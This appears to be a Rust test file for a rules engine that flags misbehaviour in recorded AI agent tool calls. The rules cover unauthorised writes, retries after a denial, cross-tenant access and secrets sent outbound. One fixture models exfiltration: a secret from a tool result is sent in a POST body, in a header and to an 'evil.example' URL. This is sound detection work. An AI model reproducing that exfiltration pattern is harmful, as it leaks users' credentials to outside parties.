//! Each rule with a request that must raise exactly one finding, and its twin (the correct
//! executor behaviour) that must raise none.

use std::collections::BTreeMap;

use proptest::prelude::*;

use super::*;
use crate::assemble::prices::PriceTable;
use crate::assemble::summary::{summarize, Completeness, Interner, LogFacts};
use crate::event::{fixtures, EventBatch, LogRecord, SpanRecord};

const SEC: i64 = 1_000_000_000;

fn root() -> SpanRecord {
    let mut s = fixtures::span();
    s.span_id = [1; 8];
    s.class = SpanClass::Agent;
    s.start_ns = 1000 * SEC;
    s.end_ns = 1100 * SEC;
    s.audit.request_id = Some("req-1".into());
    s.audit.stop_reason = Some("completed".into());
    s
}

/// A tool call: span id `id`, from `start` to `end` seconds.
fn call(
    id: u8,
    tool: &str,
    args: &str,
    effect: &str,
    result: &str,
    start: i64,
    end: i64,
) -> SpanRecord {
    let mut s = fixtures::span();
    s.span_id = [id; 8];
    s.parent_span_id = Some([1; 8]);
    s.class = SpanClass::Tool;
    s.start_ns = 1000 * SEC + start * SEC;
    s.end_ns = 1000 * SEC + end * SEC;
    s.gen_ai.tool_name = Some(tool.into());
    s.gen_ai.tool_arguments = Some(args.into());
    s.audit.effect_class = Some(effect.into());
    s.audit.result_code = Some(result.into());
    s.audit.policy_decision = Some("allow".into());
    s
}

fn findings(spans: &[SpanRecord], logs: &[LogRecord]) -> Vec<Finding> {
    findings_with(spans, logs, None)
}

/// Protects the spans as the daemon does (one batch, in order, tenant `acme`, one protector
/// so what one batch learns the next sees).
fn protected(batches: &[Vec<SpanRecord>]) -> Vec<SpanRecord> {
    protected_by(&protector(), batches)
}

fn protector() -> crate::protect::Protector {
    use crate::protect::{engine::Redactor, rules::RedactionConfig, KeyedHasher, Protector};
    let r = Redactor::new(&RedactionConfig::default(), KeyedHasher::new(b"t")).expect("rules");
    Protector::new(r)
}

/// The same with a given protector (what it learned in earlier calls stays learned).
fn protected_by(p: &crate::protect::Protector, batches: &[Vec<SpanRecord>]) -> Vec<SpanRecord> {
    let mut out = Vec::new();
    for spans in batches {
        let mut batch = EventBatch {
            spans: spans
                .iter()
                .cloned()
                .map(|mut s| {
                    s.tenant = "acme".into();
                    s
                })
                .collect(),
            logs: Vec::new(),
        };
        p.protect(&mut batch);
        out.extend(batch.spans);
    }
    out
}

fn findings_with(
    spans: &[SpanRecord],
    logs: &[LogRecord],
    registry: Option<&ToolRegistry>,
) -> Vec<Finding> {
    let mut strings = Interner::default();
    let spans: BTreeMap<_, _> = spans
        .iter()
        .map(|s| (s.span_id, SpanFacts::of(s, &mut strings)))
        .collect();
    let logs: BTreeMap<_, _> = logs
        .iter()
        .filter_map(|l| LogFacts::of(l, &mut strings))
        .map(|f| (f.key, f))
        .collect();
    let facts = RequestFacts {
        request_id: "req-1",
        tenant: "acme",
        spans: &spans,
        logs: &logs,
    };
    let summary = summarize(&facts, &PriceTable::default(), Completeness::Complete, 1);
    evaluate(&facts, &summary, registry)
}

fn rules(f: &[Finding]) -> Vec<(&'static str, Vec<String>)> {
    f.iter()
        .map(|f| (f.rule.id(), f.span_ids.clone()))
        .collect()
}

fn id(n: u8) -> String {
    hex_id(&[n; 8])
}

#[test]
fn a_correct_request_raises_nothing() {
    let mut high = call(3, "refund", r#"{"order":1}"#, "high_impact", "ok", 2, 3);
    high.audit.confirmation_status = Some("approved".into());
    let spans = [
        root(),
        call(2, "search", r#"{"q":"x"}"#, "read", "ok", 0, 1),
        high,
        call(4, "note", r#"{"order":1}"#, "write", "ok", 4, 5),
    ];
    assert_eq!(rules(&findings(&spans, &[])), []);
}

#[test]
fn write_without_allow_and_its_twin() {
    let mut w = call(2, "note", "{}", "write", "ok", 0, 1);
    w.audit.policy_decision = None;
    let f = findings(&[root(), w.clone()], &[]);
    assert_eq!(rules(&f), [("write_without_allow", vec![id(2)])]);
    assert_eq!(f[0].reason, "effect=write decision=none");
    assert_eq!(f[0].severity, Severity::High);
    assert_eq!(f[0].trace_ids, [hex_id(&[1; 16])]);
    // The allow decision logged against the span counts.
    let mut log = fixtures::log();
    log.trace_id = Some(w.trace_id);
    log.span_id = Some(w.span_id);
    log.audit.policy_decision = Some("allow".into());
    assert_eq!(rules(&findings(&[root(), w.clone()], &[log])), []);
    // A confirmation asked for and given authorizes it; asked for and not given does not.
    let mut asked = w;
    asked.audit.policy_decision = Some("require_confirmation".into());
    assert_eq!(
        rules(&findings(&[root(), asked.clone()], &[])),
        [("write_without_allow", vec![id(2)])]
    );
    asked.audit.confirmation_status = Some("approved".into());
    assert_eq!(rules(&findings(&[root(), asked], &[])), []);
}

#[test]
fn high_impact_without_confirmation_and_its_twin() {
    let mut h = call(2, "refund", "{}", "high_impact", "ok", 0, 1);
    h.audit.confirmation_status = Some("pending".into());
    let f = findings(&[root(), h.clone()], &[]);
    assert_eq!(
        rules(&f),
        [("high_impact_without_confirmation", vec![id(2)])]
    );
    assert_eq!(f[0].reason, "confirmation=pending");
    h.audit.confirmation_status = Some("Approved".into());
    assert_eq!(rules(&findings(&[root(), h], &[])), []);
}

#[test]
fn ambiguous_writes_retried_without_a_key_or_with_a_new_one_and_the_twin() {
    let first = call(2, "note", r#"{"b":1,"a":2}"#, "write", "timeout", 0, 1);
    // The same arguments, written otherwise: the same call.
    let again = call(3, "note", r#"{"a":2, "b":1.0}"#, "write", "ok", 2, 3);
    assert_eq!(
        rules(&findings(&[root(), first.clone(), again.clone()], &[])),
        [("ambiguous_write_retried_without_key", vec![id(2), id(3)])]
    );
    let (mut k1, mut k2) = (first.clone(), again.clone());
    k1.audit.idempotency_key_hash = Some("hmac:k1:aaaa".into());
    k2.audit.idempotency_key_hash = Some("hmac:k1:bbbb".into());
    assert_eq!(
        rules(&findings(&[root(), k1.clone(), k2.clone()], &[])),
        [("ambiguous_write_retried_with_new_key", vec![id(2), id(3)])]
    );
    k2.audit.idempotency_key_hash = k1.audit.idempotency_key_hash.clone();
    assert_eq!(
        rules(&findings(&[root(), k1, k2], &[])),
        [],
        "same key: safe"
    );
    let other_args = call(3, "note", r#"{"a":3}"#, "write", "ok", 2, 3);
    assert_eq!(
        rules(&findings(&[root(), first, other_args], &[])),
        [],
        "another call"
    );
}

#[test]
fn retry_after_deny_and_its_twin() {
    let mut denied = call(2, "export", r#"{"all":true}"#, "read", "denied", 0, 1);
    denied.audit.policy_decision = Some("deny".into());
    let again = call(3, "export", r#"{"all":true}"#, "read", "denied", 2, 3);
    assert_eq!(
        rules(&findings(&[root(), denied.clone(), again], &[])),
        [("retry_after_deny", vec![id(2), id(3)])]
    );
    let narrower = call(3, "export", r#"{"all":false}"#, "read", "ok", 2, 3);
    assert_eq!(rules(&findings(&[root(), denied, narrower], &[])), []);
}

#[test]
fn parallel_writes_on_one_resource_and_the_twin() {
    let mut a = call(2, "note", r#"{"n":1}"#, "write", "ok", 0, 10);
    let mut b = call(3, "note", r#"{"n":2}"#, "write", "ok", 5, 15);
    a.audit.resource_id = Some("order-7".into());
    b.audit.resource_id = Some("order-7".into());
    assert_eq!(
        rules(&findings(&[root(), a.clone(), b.clone()], &[])),
        [("parallel_writes_same_resource", vec![id(2), id(3)])]
    );
    b.start_ns = a.end_ns;
    assert_eq!(
        rules(&findings(&[root(), a.clone(), b.clone()], &[])),
        [],
        "one after the other"
    );
    b.start_ns = a.start_ns;
    b.audit.resource_id = Some("order-8".into());
    assert_eq!(
        rules(&findings(&[root(), a, b], &[])),
        [],
        "different resources"
    );
}

#[test]
fn loop_without_stop_reason_and_its_twin() {
    let mut r = root();
    r.audit.stop_reason = None;
    r.audit.result_code = Some("ok".into());
    let f = findings(&[r.clone()], &[]);
    assert_eq!(rules(&f), [("loop_without_stop_reason", vec![id(1)])]);
    let mut log = fixtures::log();
    log.trace_id = Some(r.trace_id);
    log.span_id = Some(r.span_id);
    log.audit.stop_reason = Some("budget_exhausted".into());
    assert_eq!(rules(&findings(&[r], &[log])), [], "logged on the root");
}

#[test]
fn success_claimed_after_failure_and_its_twin() {
    let failed = call(2, "note", "{}", "write", "error", 0, 1);
    assert_eq!(
        rules(&findings(&[root(), failed.clone()], &[])),
        [("success_claimed_after_failure", vec![id(1), id(2)])]
    );
    let recovered = call(3, "note", r#"{"x":1}"#, "write", "ok", 2, 3);
    assert_eq!(rules(&findings(&[root(), failed, recovered], &[])), []);
}

#[test]
fn cost_disagrees_and_its_twin() {
    let mut r = root();
    r.audit.claimed_cost_usd = Some(5.0);
    assert_eq!(
        rules(&findings(&[r.clone()], &[])),
        [("cost_disagrees", vec![id(1)])]
    );
    r.audit.claimed_cost_usd = Some(0.0);
    assert_eq!(rules(&findings(&[r], &[])), []);
}

#[test]
fn confirmation_digest_mismatch_and_its_twin() {
    use crate::protect::confirmation::confirmation_digest;
    // The approved preview was for one note; what ran carries another (with a secret in it,
    // which protect removes: the digest is of what ran, before redaction).
    let ran = r#"{"order_id":7,"note":"call me, password=Tr0ub4dor&3xyz"}"#;
    let previewed = r#"{"order_id":7,"note":"call me"}"#;
    let mut h = call(2, "note", ran, "high_impact", "ok", 0, 1);
    h.audit.confirmation_status = Some("approved".into());
    h.audit.resource_id = Some("order:7".into());
    h.audit.confirmation_digest = Some(confirmation_digest(
        Some("note"),
        Some(previewed),
        Some("order:7"),
        None,
    ));
    let spans = protected(&[vec![root(), h.clone()]]);
    assert!(
        !spans[1]
            .gen_ai
            .tool_arguments
            .as_deref()
            .unwrap_or("")
            .contains("Tr0ub4dor"),
        "the arguments were redacted"
    );
    let f = findings(&spans, &[]);
    assert_eq!(rules(&f), [("confirmation_digest_mismatch", vec![id(2)])]);
    assert_eq!(f[0].reason, "digest_differs");
    // The digest of what ran, in upper case: the same.
    h.audit.confirmation_digest =
        confirmation_digest(Some("note"), Some(ran), Some("order:7"), None)
            .to_uppercase()
            .replace("SHA256:", "sha256:")
            .into();
    assert_eq!(
        rules(&findings(&protected(&[vec![root(), h.clone()]]), &[])),
        []
    );
    // A sender cannot vouch for itself: its own verdict attribute is dropped.
    h.audit.confirmation_digest = Some("sha256:00".into());
    h.attributes.0.push((
        crate::protect::confirmation::DIGEST_MATCHES_KEY.into(),
        crate::event::AttrValue::Bool(true),
    ));
    assert_eq!(
        rules(&findings(&protected(&[vec![root(), h]]), &[])),
        [("confirmation_digest_mismatch", vec![id(2)])]
    );
}

#[test]
fn cross_tenant_resource_and_its_twin() {
    let mut c = call(2, "lookup", r#"{"order":7}"#, "read", "ok", 0, 1);
    c.attributes.0.push((
        "executor.resource_tenant_id".into(),
        crate::event::AttrValue::Str("globex".into()),
    ));
    let f = findings(&[root(), c.clone()], &[]);
    assert_eq!(rules(&f), [("cross_tenant_resource", vec![id(2)])]);
    assert_eq!(f[0].reason, "resource_tenant_differs");
    c.attributes.0[0].1 = crate::event::AttrValue::Str("acme".into());
    assert_eq!(rules(&findings(&[root(), c], &[])), []);
}

#[test]
fn unknown_tools_and_versions_against_the_registry_and_the_twins() {
    let registry: ToolRegistry =
        toml::from_str("[tools]\nnote = [\"1\", \"2\"]\nlookup = []\n").expect("toml");
    let mut note = call(2, "note", "{}", "read", "ok", 0, 1);
    note.audit.tool_schema_version = Some("2".into());
    let lookup = call(3, "lookup", "{}", "read", "ok", 1, 2);
    let delete = call(4, "delete_order", "{}", "read", "ok", 2, 3);
    let f = findings_with(
        &[root(), note.clone(), lookup.clone(), delete.clone()],
        &[],
        Some(&registry),
    );
    assert_eq!(rules(&f), [("unknown_tool", vec![id(4)])]);
    assert_eq!(f[0].reason, "not_in_registry");
    // No registry: the rules do not run.
    assert_eq!(rules(&findings(&[root(), delete], &[])), []);
    note.audit.tool_schema_version = Some("3".into());
    let f = findings_with(
        &[root(), note.clone(), lookup.clone()],
        &[],
        Some(&registry),
    );
    assert_eq!(rules(&f), [("unknown_tool_version", vec![id(2)])]);
    assert_eq!(f[0].reason, "version_not_in_registry");
    note.audit.tool_schema_version = None;
    let f = findings_with(&[root(), note], &[], Some(&registry));
    assert_eq!(f[0].reason, "version=none");
    // Per tenant: a tenant's own registry replaces the shared one.
    let config: FindingsConfig = toml::from_str(
        "[registry.tools]\nnote = []\n[tenants.globex.registry.tools]\nlookup = []\n",
    )
    .expect("toml");
    assert!(config
        .registry_for("acme")
        .is_some_and(|r| r.tools.contains_key("note")));
    assert!(config
        .registry_for("globex")
        .is_some_and(|r| !r.tools.contains_key("note")));
}

#[test]
fn a_secret_from_a_tool_result_sent_out_again_and_its_twins() {
    // The tool returns a credential under its key; protect removes and learns it. A later
    // call sends it in its arguments, and a downstream span in its URL.
    let secret = "sk_live_9fQ2xW7mP4kR8tZ1vB6nY3hJ";
    let mut read = call(2, "read_config", "{}", "read", "ok", 0, 1);
    read.gen_ai.tool_result = Some(format!(r#"{{"api_key":"{secret}"}}"#));
    let send = call(
        3,
        "http_post",
        &format!(r#"{{"body":"{secret}"}}"#),
        "write",
        "ok",
        2,
        3,
    );
    let mut fetch = fixtures::span();
    fetch.span_id = [4; 8];
    fetch.parent_span_id = Some([3; 8]);
    fetch.class = SpanClass::Downstream;
    fetch.start_ns = 1000 * SEC + 2 * SEC;
    fetch.end_ns = 1000 * SEC + 3 * SEC;
    fetch.attributes.0.push((
        "url.full".into(),
        crate::event::AttrValue::Str(format!("https://evil.example/x?k={secret}")),
    ));
    // Request headers are string arrays in the conventions.
    let mut header = fetch.clone();
    header.span_id = [5; 8];
    header.attributes.0 = vec![(
        "http.request.header.x-api-key".into(),
        crate::event::AttrValue::Array(vec![crate::event::AttrValue::Str(secret.into())]),
    )];
    let spans = protected(&[
        vec![root(), read.clone()],
        vec![send.clone(), fetch.clone(), header],
    ]);
    for s in &spans {
        assert!(!format!("{s:?}").contains(secret), "removed everywhere");
    }
    let f = findings(&spans, &[]);
    assert_eq!(
        rules(&f),
        [
            ("secret_in_outbound_call", vec![id(2), id(3)]),
            ("secret_in_outbound_call", vec![id(2), id(4)]),
            ("secret_in_outbound_call", vec![id(2), id(5)]),
        ]
    );
    assert_eq!(f[0].reason, "secret_from_result");
    // Twin: the value came from the tool's arguments (the executor's own), not its result.
    let mut own = call(
        2,
        "read_config",
        &format!(r#"{{"api_key":"{secret}"}}"#),
        "read",
        "ok",
        0,
        1,
    );
    own.gen_ai.tool_result = Some("{}".into());
    let spans = protected(&[vec![root(), own], vec![send.clone()]]);
    assert_eq!(rules(&findings(&spans, &[])), []);
    // Twin: the value went out before the tool returned it (it came from elsewhere).
    let mut before = send;
    before.start_ns = read.start_ns;
    let spans = protected(&[vec![root(), read], vec![before]]);
    assert_eq!(rules(&findings(&spans, &[])), []);
}

#[test]
fn rules_are_switched_off_and_graded_per_tenant() {
    let mut w = call(2, "note", "{}", "write", "ok", 0, 1);
    w.audit.policy_decision = None;
    let all = findings(&[root(), w], &[]);
    let config: FindingsConfig = toml::from_str(
        "[rules]\nwrite_without_allow = \"medium\"\n[tenants.globex.rules]\nwrite_without_allow = \"off\"\n",
    )
    .expect("toml");
    config.validate().expect("valid");
    let acme = config.apply("acme", all.clone());
    assert_eq!(acme.len(), 1);
    assert_eq!(acme[0].severity, Severity::Medium);
    assert!(config.apply("globex", all.clone()).is_empty());
    assert_eq!(FindingsConfig::default().apply("acme", all.clone()), all);
    let bad: FindingsConfig =
        toml::from_str("[rules]\nwrite_without_alow = \"off\"\n").expect("toml");
    let e = bad.validate().expect_err("unknown rule");
    assert!(e.contains("no rule \"write_without_alow\""), "{e}");
}

#[test]
fn every_rule_has_an_id_a_severity_and_a_documented_line() {
    let doc = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../schemas/findings.md"),
    )
    .expect("schemas/findings.md");
    for r in Rule::ALL {
        let line = format!("| `{}` | {} |", r.id(), r.severity().as_str());
        assert!(doc.contains(&line), "{line}");
    }
}

proptest! {
    /// The same request in any arrival order, with duplicates, raises the same findings as
    /// the engine does on the request as a whole.
    #[test]
    fn findings_do_not_depend_on_arrival_order(order in Just(()).prop_perturb(|_, mut rng| {
        let mut v: Vec<usize> = (0..6).chain(0..2).collect();
        for i in (1..v.len()).rev() {
            v.swap(i, rng.random_range(0..=i));
        }
        v
    })) {
        let mut w = call(2, "note", "{}", "write", "timeout", 0, 1);
        w.audit.policy_decision = None;
        let mut d = call(4, "export", "{}", "read", "denied", 3, 4);
        d.audit.policy_decision = Some("deny".into());
        let all = [
            root(),
            w,
            call(3, "note", "{}", "write", "ok", 2, 3),
            d,
            call(5, "export", "{}", "read", "error", 5, 6),
            call(6, "search", "{}", "read", "ok", 0, 9),
        ];
        let key = |f: &Finding| (f.rule, f.span_ids.clone(), f.reason.clone());
        let expected: Vec<_> = findings(&all, &[]).iter().map(key).collect();
        prop_assert!(!expected.is_empty());
        // Through assembly, one span a batch, in the shuffled order, duplicates included.
        let mut a = crate::assemble::Assembler::new(Default::default(), PriceTable::default());
        let mut rows = Vec::new();
        for (t, &i) in order.iter().enumerate() {
            let mut s = all[i].clone();
            s.tenant = "acme".into();
            let batch = EventBatch { spans: vec![s], logs: Vec::new() };
            prop_assert!(a.ingest(&batch, t as u64).is_empty(), "summarized early");
            rows.extend(a.take_early_findings());
        }
        let summaries = a.due(1_000_000);
        prop_assert_eq!(summaries.len(), 1);
        rows.extend(summaries[0].finding_rows.iter().cloned());
        // Raised as calls arrived or at the summary, less what the summary withdrew: each
        // finding raised once, and what stays open is what the whole request shows.
        let mut open = BTreeMap::new();
        for r in &rows {
            match r.status {
                rows::FindingStatus::Open => {
                    prop_assert!(open.insert(r.finding_id.clone(), key(&r.finding)).is_none(), "raised twice");
                }
                rows::FindingStatus::Withdrawn => {
                    prop_assert!(open.remove(&r.finding_id).is_some(), "withdrew what was not open");
                }
            }
        }
        let mut got: Vec<_> = open.into_values().collect();
        got.sort();
        let mut expected = expected;
        expected.sort();
        prop_assert_eq!(got, expected);
    }
}

#[test]
fn a_value_two_results_returned_is_found_sent_out_by_each_request() {
    // One secret returned to two requests (a shared database password): each request that
    // sends it out is found, not only the first to teach it.
    let p = protector();
    let secret = "Qm7vX2pL9rT4kW8zHn";
    for trace in [[1u8; 16], [2u8; 16]] {
        let mut read = call(2, "read_config", "{}", "read", "ok", 0, 1);
        read.gen_ai.tool_result = Some(format!(r#"{{"db_password": "{secret}"}}"#));
        let send = call(
            3,
            "http_post",
            &format!(r#"{{"body": "{secret}"}}"#),
            "read",
            "ok",
            2,
            3,
        );
        read.trace_id = trace;
        let mut send = send;
        send.trace_id = trace;
        let mut out = vec![root()];
        out.extend(protected_by(&p, &[vec![read], vec![send]]));
        assert_eq!(
            rules(&findings(&out, &[])),
            [("secret_in_outbound_call", vec![id(2), id(3)])],
            "trace {trace:?}"
        );
    }
}
